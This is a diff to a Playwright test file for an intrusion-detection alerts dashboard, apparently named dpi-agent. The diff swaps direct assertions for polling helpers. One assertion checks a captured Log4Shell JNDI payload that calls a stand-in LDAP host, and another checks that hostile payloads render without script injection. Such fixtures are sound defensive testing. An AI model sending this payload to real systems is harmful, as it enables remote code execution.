@@ -131,6 +131,14 @@ function describePage(start: () => Promise<Place>, ...flags: string[]): void {
   const shows = (count: number): Promise<unknown> => poll(async () => (await total()) === count.toLocaleString('en'));
   const choice = (facet: string, name: string | RegExp): Locator =>
     page.getByRole('group', { name: facet }).getByRole('checkbox', { name });
+  /** The browser tells of an address that changed a moment after what changed it. */
+  const leadsTo = (part: string): Promise<unknown> => poll(() => page.url().includes(part));
+  const current = (index: number): Promise<unknown> =>
+    poll(async () => (await rows().nth(index).getAttribute('aria-current')) === 'true');
+  /** Does what the page answers by a text that goes by itself after a while. */
+  const answers = (text: Locator, act: () => Promise<unknown>): Promise<unknown> =>
+    Promise.all([text.waitFor(), act()]);
+  const note = (text: string): Locator => page.getByRole('status').getByText(text);
 
   test('the list is there, newest first, and nothing is complained about', async () => {
     await open();
@@ -185,13 +193,13 @@ function describePage(start: () => Promise<Place>, ...flags: string[]): void {
     ])('by %s', async (_, facet, name, wanted, address) => {
       await open();
       await choice(facet, name).check();
+      await leadsTo(address);
       await shows(wanted);
-      expect(page.url()).toContain(address);
       // The address alone shows the same.
       await page.reload();
       await rows().first().waitFor();
       await shows(wanted);
-      expect(await choice(facet, name).isChecked()).toBe(true);
+      await poll(() => choice(facet, name).isChecked());
       await page.getByRole('button', { name: /^Remove filter/ }).click();
       await shows(151);
       await page.goBack();
@@ -203,7 +211,7 @@ function describePage(start: () => Promise<Place>, ...flags: string[]): void {
       await page.keyboard.press('/');
       await page.keyboard.type('cve-2021 log4j');
       await shows(count(({ record }) => record.snort_signature_id === '1000104'));
-      expect(page.url()).toContain('q=cve-2021');
+      await leadsTo('q=cve-2021');
     });
 
     test('by time, dragged over the histogram', async () => {
@@ -216,7 +224,7 @@ function describePage(start: () => Promise<Place>, ...flags: string[]): void {
       await page.mouse.down();
       await page.mouse.move(box.x + box.width * 0.75, box.y + 40, { steps: 5 });
       await page.mouse.up();
-      await poll(() => page.url().includes('from='));
+      await leadsTo('from=');
       const { searchParams } = new URL(page.url());
       const [from, to] = ['from', 'to'].map((name) => Date.parse(searchParams.get(name) ?? ''));
       const inside = count(({ record }) => {
@@ -245,7 +253,7 @@ function describePage(start: () => Promise<Place>, ...flags: string[]): void {
       await first.click();
       await rows().first().waitFor();
       await shows(wanted);
-      expect(page.url()).toContain(`${by}=`);
+      await leadsTo(`${by}=`);
     });
   });
 
@@ -273,7 +281,7 @@ function describePage(start: () => Promise<Place>, ...flags: string[]): void {
         expect(await link.getAttribute('rel')).toContain('noopener');
       expect(await detail().locator('pre.payload').innerText()).toContain('${jndi:ldap://203.0.113.7:1389/a}\\r\\n');
       await detail().getByRole('button', { name: 'Hex' }).click();
-      expect(await detail().locator('pre.payload').innerText()).toMatch(
+      expect(await detail().locator('pre.payload-hex').innerText()).toMatch(
         /^0000 {2}47 45 54 20 2f 20 48 54 {2}54 50 2f 31 2e 31 0d 0a {2}GET \/ HTTP\/1\.1\.\.\n/,
       );
     });
@@ -283,8 +291,9 @@ function describePage(start: () => Promise<Place>, ...flags: string[]): void {
       await browser.context.grantPermissions(['clipboard-read', 'clipboard-write']);
       await open(`?alert=${event?.record.event_id}`);
       const copied = async (name: string): Promise<string> => {
-        await detail().getByRole('button', { name }).click();
-        await detail().getByRole('button', { name: 'Copied' }).waitFor();
+        await answers(detail().getByRole('button', { name: 'Copied' }), () =>
+          detail().getByRole('button', { name }).click(),
+        );
         const text = await page.evaluate(() => navigator.clipboard.readText());
         await detail().getByRole('button', { name }).waitFor();
         return text;
@@ -299,6 +308,7 @@ function describePage(start: () => Promise<Place>, ...flags: string[]): void {
       await open(`?alert=${hostile.record.event_id}&range=all`);
       await detail().locator('pre.payload').waitFor();
       await detail().getByText('Show it').click();
+      await detail().locator('pre.document').waitFor();
       expect(await page.title()).toBe('Alerts · dpi-agent');
       expect(await page.locator('img:not([src="/icon.svg"]), script:not([src]), [onerror]').count()).toBe(0);
       const text = await detail().innerText();
@@ -335,8 +345,7 @@ function describePage(start: () => Promise<Place>, ...flags: string[]): void {
       await page.locator(`[data-id="${id}"]`).waitFor();
       await shows(1);
       await page.locator(`[data-id="${id}"] a`).click();
-      await detail().getByRole('button', { name: 'Open again' }).click();
-      await page.getByRole('status').getByText('Alert: open').waitFor();
+      await answers(note('Alert: open'), () => detail().getByRole('button', { name: 'Open again' }).click());
       await page.goto(ui.url);
       await shows(151);
     });
@@ -346,14 +355,14 @@ function describePage(start: () => Promise<Place>, ...flags: string[]): void {
     await open();
     await page.keyboard.press('j');
     await page.keyboard.press('j');
-    expect(await rows().nth(1).getAttribute('aria-current')).toBe('true');
+    await current(1);
     await page.keyboard.press('k');
-    expect(await rows().nth(0).getAttribute('aria-current')).toBe('true');
+    await current(0);
     await page.keyboard.press('Enter');
     // The focus moves just after the detail is drawn.
     await page.locator('#detail-title:focus').waitFor();
     await page.keyboard.press('j');
-    expect(page.url()).toContain(await rows().nth(1).getAttribute('data-id'));
+    await leadsTo((await rows().nth(1).getAttribute('data-id')) ?? 'no id');
     await page.keyboard.press('Escape');
     await page.locator('.detail').waitFor({ state: 'detached' });
     await page.keyboard.press('?');
@@ -362,10 +371,8 @@ function describePage(start: () => Promise<Place>, ...flags: string[]): void {
     await page.getByRole('dialog').waitFor({ state: 'hidden' });
     await page.keyboard.press('x');
     await page.getByText('1 chosen').waitFor();
-    await page.keyboard.press('a');
-    await page.getByRole('status').getByText('Alert: acknowledged').waitFor();
-    await page.keyboard.press('o');
-    await page.getByRole('status').getByText('Alert: open').waitFor();
+    await answers(note('Alert: acknowledged'), () => page.keyboard.press('a'));
+    await answers(note('Alert: open'), () => page.keyboard.press('o'));
   });
 
   if (start === onElasticsearch) {
@@ -515,18 +522,35 @@ function describePage(start: () => Promise<Place>, ...flags: string[]): void {
         if ((event.origin.startsWith('dpi.ci/') && event.severity === 100) === passes) return event;
       }
     };
-    const [other, wanted] = [next(false), next(true)];
-    await place.append(other, wanted);
-    await page.locator(`[data-id="${wanted.record.event_id}"].fresh`).waitFor();
-    expect(await rows().count()).toBe(before + 1);
-    await shows(before + 1);
+    const wanted: string[] = [];
+    // What is there when the server looks for the first time is not new.
+    await poll(async () => {
+      const event = next(true);
+      wanted.push(event.record.event_id);
+      await place.append(next(false), event);
+      return page
+        .locator('.rows > li.fresh')
+        .first()
+        .waitFor({ timeout: 10_000 })
+        .then(
+          () => true,
+          () => false,
+        );
+    });
+    const fresh = await page.locator('.rows > li.fresh').evaluateAll((all) => all.map((row) => row.dataset['id']));
+    expect(wanted).toEqual(expect.arrayContaining(fresh));
+    await shows(before + wanted.length);
     await page.getByRole('button', { name: 'Live' }).click();
+    await page.getByRole('button', { name: 'Paused' }).waitFor();
+    const paused = await rows().count();
     const later = next(true);
     await place.append(later);
-    // What is asked for, is there.
-    await page.getByRole('button', { name: 'Paused' }).waitFor();
-    expect(await rows().count()).toBe(before + 1);
-    await page.reload();
-    await page.locator(`[data-id="${later.record.event_id}"]`).waitFor();
+    expect(await rows().count()).toBe(paused);
+    // What is asked for, is there, as soon as Elasticsearch has it.
+    await poll(async () => {
+      await page.reload();
+      await rows().first().waitFor();
+      return (await page.locator(`[data-id="${later.record.event_id}"]`).count()) === 1;
+    });
   });
 }
